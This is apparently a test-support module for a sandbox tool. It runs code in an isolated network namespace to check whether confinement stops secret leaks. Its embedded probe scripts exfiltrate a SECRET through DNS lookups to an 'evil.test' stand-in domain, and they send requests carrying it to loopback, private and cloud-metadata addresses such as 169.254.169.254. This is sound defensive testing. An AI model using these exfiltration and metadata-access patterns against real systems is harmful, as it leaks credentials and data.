"""A network for one test alone: corral runs in it with the usual resolver, which asks the test's server.

`python -m support.net_alone CASE BACKEND GRANT...` runs inside, in namespaces of its own for network and
mounts, and prints what happened; `lookups_alone` and `moved_alone` start it. The host's network is not there:
addresses of any kind can be its own. That of the permitted host is granted: it is the machine's own.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import NamedTuple

from support.net_leaks import PREAMBLE
from support.net_runs import ALLOWED, why_not
from support.probed import probe_of

_TESTS = Path(__file__).resolve().parents[1]
_SECONDS = 110
#: The address of whoever is permitted: in here nobody else has it.
_PUBLIC = "9.9.9.123"
#: Where a name may be moved: loopback, metadata services, private networks, and translated forms of them.
MOVED = {
    f"moved-{number}.example.test": address
    for number, address in enumerate(
        (
            *("127.0.0.1", "127.77.0.1", "169.254.169.254", "10.0.0.5", "172.16.0.9", "192.168.7.7"),
            *("100.64.0.9", "198.18.0.77", "192.0.0.192", "::1", "fd00:ec2::254", "64:ff9b::a00:5"),
            *("2002:a00:5::1", "::ffff:10.0.0.5"),
        )
    )
}

_LOOK_UP = f"""
import subprocess
for name in (SECRET + ".evil.test", SECRET + ".{ALLOWED}.evil.test"):
    attempt(lambda: socket.getaddrinfo(name, 443))
    attempt(lambda: socket.getaddrinfo(name, 80, socket.AF_INET6))
    attempt(lambda: socket.gethostbyname(name))
    attempt(lambda: dial(name, 443))
    attempt(lambda: subprocess.run(["getent", "ahosts", name], capture_output=True, timeout=20))
"""
#: Each by its name, and straight.
_FETCH = f"""
def send(host, target):
    with dial(host, 80) as stream:
        get(stream, "[%s]" % host if ":" in host else host, target)
        return listen(stream)
for name, address in {MOVED!r}.items():
    attempt(lambda: send(name, "/%s/%s" % (SECRET, name)))
    attempt(lambda: send(address, "/%s/%s" % (SECRET, address)))
attempt(lambda: send("localhost", "/%s/localhost" % SECRET))
"""


class Alone(NamedTuple):
    """What the test's server got: unconfined, and then from corral and its command."""

    control: list[str]
    confined: list[str]
    output: str
    hints: list[str]


def why_not_alone(name: str) -> str:
    """Why a backend cannot be tried in a network of its own; empty if it can."""
    if os.geteuid() != 0:
        return "a network with a name server of its own needs root: its port is 53"
    missing = [program for program in ("unshare", "busybox") if shutil.which(program) is None]
    return f"{', '.join(missing)} not installed" if missing else why_not(name)


def lookups_alone(backend: str) -> Alone:
    """Names with the secret are looked up; what is returned are the names that the server was asked for."""
    return _start("lookups", backend, f"network:http:{ALLOWED}")


def moved_alone(backend: str, *grants: str) -> Alone:
    """Permitted names lead to where they must not; what is returned are the requests that arrived there."""
    return _start("moved", backend, *grants)


def _start(*arguments: str) -> Alone:
    done = subprocess.run(
        ["unshare", "--net", "--mount", "--", sys.executable, "-m", "support.net_alone", *arguments],
        env={**os.environ, "PYTHONPATH": str(_TESTS)},
        capture_output=True,
        text=True,
        timeout=_SECONDS,
        check=False,
    )
    if done.returncode != 0:
        raise RuntimeError(f"nothing was tried: {done.stdout}{done.stderr}")
    return Alone(**json.loads(done.stdout))


def _prepare(folder: Path) -> None:
    """Loopback with all those addresses, and a resolver's file: all of it is gone with the process."""
    resolver, names = folder / "resolv.conf", folder / "nsswitch.conf"
    resolver.write_text("nameserver 127.0.0.1\noptions timeout:2 attempts:1\n")
    names.write_text("hosts: files dns\n")
    commands = [
        ["busybox", "ip", "link", "set", "lo", "up"],
        ["mount", "--bind", str(resolver), os.path.realpath("/etc/resolv.conf")],
        ["mount", "--bind", str(names), os.path.realpath("/etc/nsswitch.conf")],
    ]
    for address in (_PUBLIC, *MOVED.values()):
        if not address.startswith(("127.", "::")):
            size = 128 if ":" in address else 32
            commands.append(["busybox", "ip", "address", "add", f"{address}/{size}", "dev", "lo"])
    for command in commands:
        subprocess.run(command, check=True)


def _main(case: str, backend: str, *grants: str) -> None:
    """Unconfined, then confined, with the same servers."""
    from support.net_dns import NameServer
    from support.net_web import WebServer

    with tempfile.TemporaryDirectory(prefix="corral-alone-") as folder:
        _prepare(Path(folder))
        work = Path(folder) / "work"
        work.mkdir()
        os.environ["HOME"] = os.environ["XDG_STATE_HOME"] = folder
        text = _LOOK_UP if case == "lookups" else _FETCH
        addresses = {ALLOWED: _PUBLIC, **MOVED}
        with NameServer(port=53, addresses=addresses) as names, WebServer(address="::", port=80) as web:

            def received() -> list[str]:
                names.settle()
                web.settle()
                got = names.names if case == "lookups" else [request.target for request in web.requests]
                names.forget()
                web.forget()
                return got

            said = _run_unconfined(text)
            control = received()
            output, hints = _run_confined(backend, work, text, grants)
            print(json.dumps(Alone(control, received(), output if control else said, hints)._asdict()))


def _run_unconfined(text: str) -> str:
    from support.confinement import PYTHON

    script = (PYTHON, "-I", "-S", "-c", PREAMBLE + text)
    done = subprocess.run(script, capture_output=True, text=True, timeout=_SECONDS, check=False)
    return done.stdout + done.stderr


def _run_confined(backend: str, work: Path, text: str, grants: tuple[str, ...]) -> tuple[str, list[str]]:
    from corral.model.feature import Feature
    from corral.policy.compose import build_policy
    from corral.sandbox import Sandbox
    from support.confinement import INTERPRETER, PYTHON

    waived = frozenset(Feature) - probe_of(backend).enforces if backend == "landlock" else ()
    policy = build_policy("moderate", (*INTERPRETER, f"network:http:{_PUBLIC}", *grants))
    sandbox = Sandbox(policy, backend=backend, workspace=work, waive=waived)
    result = sandbox.run((PYTHON, "-I", "-S", "-c", PREAMBLE + text))
    return result.stdout + result.stderr, [found.hint for found in result.violations]


if __name__ == "__main__":
    _main(*sys.argv[1:])
